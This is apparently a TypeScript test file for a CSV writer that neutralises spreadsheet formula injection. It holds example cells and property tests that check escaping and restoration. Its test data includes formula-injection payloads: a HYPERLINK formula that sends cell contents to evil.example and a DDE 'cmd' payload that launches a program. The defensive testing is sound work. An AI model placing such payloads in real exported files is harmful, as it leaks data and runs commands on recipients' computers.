import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { DELIMITERS } from '../../../src/services/csv/dialect.ts';
import { csvLine, restoreCell } from '../../../src/services/csv/writer.ts';
import { codeOf, sourceFiles } from '../../support/source-files.ts';

/** The cells of a line, as a program reads them that knows nothing of ours. */
function read(line: string, delimiter: string): string[] {
  return Papa.parse<string[]>(line.slice(0, -2), { delimiter, newline: '\r\n' }).data[0] ?? [];
}

const written = (cell: string): string => read(csvLine(['x', cell], ','), ',')[1] ?? '';

describe('a cell that a spreadsheet would calculate', () => {
  test.each([
    ['=1+1'],
    ['+1+1'],
    ['+491701234567'],
    ['-1+1'],
    ['-A1'],
    ['-'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\n=1'],
    ['\tplain'],
    ['\rplain'],
    [' =1+1'],
    ['\u00a0=1+1'],
    ['\ufeff=1+1'],
    ['\u200b=1+1'],
    ['\u0001=1+1'],
    ['＝1+1'],
    ['＋1+1'],
    ['－1+1'],
    ['＠SUM(A1)'],
    ['﹦1+1'],
    ['=1\n+1'],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ["=cmd|'/c calc'!A0"],
    ['-1.5\n=2'],
    ["'=1"],
  ])('is written as text and can be restored: %j', (cell) => {
    expect(written(cell)).toBe(`'${cell}`);
    expect(restoreCell(written(cell))).toBe(cell);
  });
});

describe('a cell that it would not', () => {
  test.each([
    [''],
    ['plain'],
    ['-5'],
    ['-1.50'],
    ['-1,50'],
    ['-1.234.567,89'],
    [' -5 '],
    ['5'],
    ['1-1'],
    ['a=b'],
    ["it's"],
    ["'quoted'"],
    ["'-5"],
    ['"=1"'],
  ])('is written as it is: %j', (cell) => {
    expect(written(cell)).toBe(cell);
    expect(restoreCell(cell)).toBe(cell);
  });
});

const DANGEROUS = Array.from('=+-@＝＋－＠\'"\t\r\n ,;|0123456789.\ufeff\u200b\u00a0');

/** Made of what is dangerous, more than of what is not. */
const hostileCell = fc
  .array(
    fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...DANGEROUS) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 3 }) },
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

test('whatever the cells hold, the line gives them back, and none of them is a formula', () => {
  fc.assert(
    fc.property(
      fc.array(hostileCell, { minLength: 2, maxLength: 6 }),
      fc.constantFrom(...DELIMITERS),
      (cells, delimiter) => {
        const line = csvLine(cells, delimiter);
        expect(line.endsWith('\r\n')).toBe(true);
        const got = read(line, delimiter);
        expect(got.map(restoreCell)).toEqual(cells);
        for (const cell of got) {
          const shown = cell.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}]+/u, '');
          const isNumber = /^-\d+([.,]\d+)*\s*$/.test(shown);
          expect(isNumber || !/^[=+\-@]/.test(shown), JSON.stringify(cell)).toBe(true);
          expect(cell).not.toMatch(/^[\t\r\n]/);
        }
      },
    ),
    { numRuns: 3_000 },
  );
});

test('every file for people is written by the one writer', async () => {
  const others = [...(await sourceFiles('src')), ...(await sourceFiles('worker'))]
    .filter((file) => /\bunparse\b/.test(codeOf(file)))
    .map(({ path }) => path);
  expect(others).toEqual(['src/services/csv/writer.ts']);
});
